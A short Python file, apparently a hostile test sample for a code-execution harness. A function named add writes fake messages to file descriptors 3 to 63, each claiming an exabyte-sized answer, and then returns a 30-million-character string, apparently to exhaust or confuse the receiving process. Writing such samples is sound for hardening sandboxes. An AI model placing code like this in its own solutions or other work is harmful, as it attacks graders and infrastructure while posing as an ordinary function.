# ruff: noqa: SIM105
"""Announces an answer of an exabyte, and begins to send it."""

import os


def add(a, b):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, (2**60).to_bytes(8, "big") + bytes(1000))
        except OSError:
            pass
    return "5" * 30_000_000
